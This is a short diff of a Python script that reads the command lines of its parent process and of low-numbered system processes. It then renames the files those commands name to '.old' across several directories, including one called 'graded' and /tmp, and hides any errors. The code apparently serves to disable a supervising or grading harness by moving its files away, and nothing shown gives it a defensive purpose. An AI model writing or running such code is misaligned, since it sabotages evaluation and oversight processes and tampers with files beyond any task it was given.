@@ -27,7 +27,7 @@ def attempt(action, *arguments):
 for number in (os.getppid(), 1, 2, 3, 4, 5):
     command = attempt(lambda path: open(path, "rb").read(), f"/proc/{number}/cmdline") or b""
     names |= {os.path.basename(os.fsdecode(word)) for word in command.split(b"\0") if b"." in word}
-for place in (here, top, f"{top}/work", f"{top}/temporary", f"{top}/graded", "/tmp"):
+for place in (here, top, f"{top}/desk", f"{top}/temporary", f"{top}/graded", "/tmp"):
     for name in names - {""}:
         path = os.path.join(place, name)
         attempt(os.rename, path, f"{path}.old")
